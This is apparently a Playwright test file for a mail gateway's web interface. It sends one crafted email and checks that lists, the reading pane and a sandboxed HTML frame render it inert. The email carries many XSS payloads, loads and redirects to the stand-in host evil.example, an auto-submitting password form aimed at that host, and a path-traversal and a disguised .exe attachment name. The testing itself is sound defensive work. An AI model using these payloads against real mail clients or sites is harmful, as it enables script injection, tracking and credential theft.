// Mail that wants to run or fetch something, sent by SMTP through the gateway, on each page that can show it: nothing runs, nothing is fetched, and the
// frame of its HTML cannot reach the page around it. Requests elsewhere, dialogs and breaches of the policy fail each test by themselves (test.ts).
import { expect as quick, test } from "./test";
import { send, word } from "./smtp";

// Mail takes its way through the gateway, on a machine that may be busy.
const expect = quick.configure({ timeout: 25_000 });

const id = `hostile-${Date.now()}-${Math.floor(Math.random() * 1e6)}`;
const subject = `<script>window.hostile="subject"</script> "><img src=x onerror=window.hostile="subject2"> ${id}`;
const name = `<img src=x onerror=window.hostile="name"> ${id}`;

const html = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style><link rel="stylesheet" href="https://evil.example/c.css">
<script>parent.hostile="html"; top.location="https://evil.example/"</script></head>
<body onload="parent.hostile='onload'"><p>hostile words</p>
<a href="javascript:window.hostile='link'">javascript link</a> <a href="data:text/html,<script>window.hostile='data'</script>">data link</a> <a href="https://shop.example/offer?a=1" title="https://bank.example/">honest link</a>
<img src="https://evil.example/pixel.gif" onerror="parent.hostile='onerror'"><img src="x" onerror="parent.hostile='onerror2'">
<svg onload="parent.hostile='svg'"><script>parent.hostile='svg2'</script></svg><math><mtext><script>parent.hostile='math'</script></mtext></math>
<form action="https://evil.example/" id="f"><input name="password"><button>send</button></form><script>f.submit()</script>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.hostile='srcdoc'</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<div style="background:url(https://evil.example/d.png);width:expression(alert(1))">styled</div><video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a" autoplay></audio>
<marquee onstart="parent.hostile='marquee'">x</marquee><details open ontoggle="parent.hostile='toggle'">x</details><template><script>parent.hostile='template'</script></template></body></html>`;

const file = (title: string, type: string, content: string) =>
  `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${word(title)}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(content).toString("base64")}\r\n`;

const mail = [
  `From: ${word(`<b onclick=window.hostile=1>李伟</b>`)} <li.wei@sunrise.example>`,
  `To: ${word(name)} <${id}@evil.example>`,
  `Subject: ${word(subject)}`,
  `Date: ${new Date().toUTCString().replace("GMT", "+0000")}`,
  `Message-ID: <${id}@sunrise.example>`,
  "MIME-Version: 1.0",
  'Content-Type: multipart/mixed; boundary="b"',
  "",
  '--b\r\nContent-Type: multipart/alternative; boundary="a"\r\n',
  `--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhostile words <script>window.hostile="text"</script> <img src=x onerror=window.hostile="text2"> javascript:window.hostile=1 https://shop.example/offer\r\n`,
  `--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n--a--\r\n`,
  file("../../../etc/passwd", "text/plain", "x") +
    file("invoice\u202Egnp.exe", "image/png", "MZ") +
    file('<img src=x onerror=window.hostile="file">.html', "text/html", "<script>window.hostile='attached'</script>") +
    file("picture.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hostile=1"/>') +
    "--b--",
].join("\r\n");

let sent: Promise<void> | undefined;
test.beforeAll(() => (sent ??= send("li.wei@sunrise.example", [`${id}@evil.example`], mail)));
test.describe.configure({ mode: "serial", timeout: 120_000 });

const unharmed = async (page: import("@playwright/test").Page) => {
  expect(await page.evaluate(() => (window as unknown as { hostile?: unknown }).hostile)).toBeUndefined();
  expect(await page.locator("img[src='x'], script[src*='evil'], [onerror], [onload]").count()).toBe(0);
};

test("a hostile mail is words in lists, in the reading pane and in its frame", async ({ as, look }) => {
  const page = await as("admin", "en");
  await page.goto(`/messages?q=${id}`);
  const row = page.locator(".mail-row");
  await expect(row).toHaveCount(1);
  await expect(row).toContainText("<script>window.hostile");
  await row.click();
  await expect(page.locator(".reading-head h2")).toContainText(`onerror=window.hostile="subject2"> ${id}`);
  await expect(page.locator(".person").filter({ hasText: `onerror=window.hostile="name"> ${id}` })).toBeVisible();
  await expect(page.locator(".words").first()).toContainText(`<script>window.hostile="text"</script>`);
  await expect(page.locator(".words a")).toHaveAttribute("href", "/link#https%3A%2F%2Fshop.example%2Foffer");
  const files = page.locator(".attachments li");
  await expect(files).toHaveCount(4);
  await expect(files.nth(0).locator("bdi")).toHaveText("passwd");
  await expect(files.nth(1)).not.toContainText("\u202E");
  await expect(files.nth(1)).toContainText("May run programs when opened");
  for (const link of await files.locator("a").all()) {
    const answer = await page.request.get((await link.getAttribute("href"))!);
    expect(answer.headers()["content-disposition"]).toMatch(/^attachment/);
    expect(answer.headers()["content-type"]).toBe("application/octet-stream");
  }
  await unharmed(page);

  await page.getByText("Formatted", { exact: true }).click();
  const frame = page.frameLocator("iframe.mail-html");
  await expect(frame.getByText("hostile words")).toBeVisible();
  expect(await page.locator("iframe.mail-html").getAttribute("sandbox")).not.toMatch(/allow-(scripts|same-origin|forms|top-navigation)/);
  await expect(frame.locator("script, iframe, form, input, object, embed, svg, base, link, meta[http-equiv], video, [onerror], [onload], [onclick], [ontoggle]")).toHaveCount(0);
  await expect(frame.locator("a[href]")).toHaveCount(1);
  await expect(frame.getByText("honest link")).toHaveAttribute("title", "https://shop.example/offer?a=1");
  await unharmed(page);
  await look(page, "hostile-message-en");
});

test("a link in the frame opens a page that shows where it leads", async ({ as, context }) => {
  void context;
  const page = await as("admin", "en");
  await page.goto(`/messages?q=${id}`);
  await page.locator(".mail-row").click();
  await page.getByText("Formatted", { exact: true }).click();
  const popup = page.waitForEvent("popup");
  await page.frameLocator("iframe.mail-html").getByText("honest link").click();
  const link = await popup;
  await expect(link.getByRole("heading", { level: 1 })).toHaveText("This link is from a mail");
  await expect(link.locator(".link-host")).toHaveText("shop.example");
  await expect(link.getByRole("link", { name: "Open the link" })).toHaveAttribute("href", "https://shop.example/offer?a=1");
  expect(await link.evaluate(() => window.opener)).toBeNull();
  await link.goto("/link#javascript:window.hostile=1");
  await link.reload();
  await expect(link.getByText("There is no link to open")).toBeVisible();
  await unharmed(link);
});

test("a customer with a hostile name is words, and so is the story of their mail", async ({ as, look }) => {
  const page = await as("admin", "zh");
  await page.goto(`/customers?q=${id}`);
  const customer = page.getByRole("link", { name: id }).first();
  await expect(customer).toBeVisible({ timeout: 20_000 });
  await unharmed(page);
  await customer.click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText(id);
  await expect(page.locator(".timeline-mail")).toHaveCount(1);
  await unharmed(page);
  await look(page, "hostile-customer-zh");

  await page.goto(`/where?message_id=${encodeURIComponent(`${id}@sunrise.example`)}`);
  await expect(page.locator(".outcome")).toContainText("<script>window.hostile");
  await expect(page.locator(".event").first()).toBeVisible();
  await unharmed(page);
  await page.goto(`/where?q=${encodeURIComponent(`${id}@evil.example`)}`);
  await expect(page.locator(".where-found")).toContainText("<script>window.hostile");
  await unharmed(page);

  const phone = await as("agent", "zh", { phone: true });
  await phone.goto("/me/mail");
  await expect(phone.getByText("<script>window.hostile", { exact: false }).first()).toBeVisible();
  await unharmed(phone);
  await look(phone, "hostile-mine-phone");
  await phone.goto(`/me/mail?tab=privacy`);
  await phone.getByRole("textbox", { name: "内容" }).fill(`${id}@evil.example`);
  await phone.getByRole("button", { name: "预览" }).click();
  await expect(phone.locator(".my-preview")).toContainText("<script>window.hostile");
  await unharmed(phone);
});

test("the start page, queues and the search box show it as words", async ({ as }) => {
  const page = await as("admin", "en");
  for (const path of ["/", "/review", "/queue", "/runs", "/outbox", "/approvals", "/audit"]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await unharmed(page);
  }
  await page.goto("/messages");
  await page.keyboard.press("Control+k");
  await page.keyboard.type(`<img src=x onerror=window.hostile=2>`);
  await unharmed(page);
});
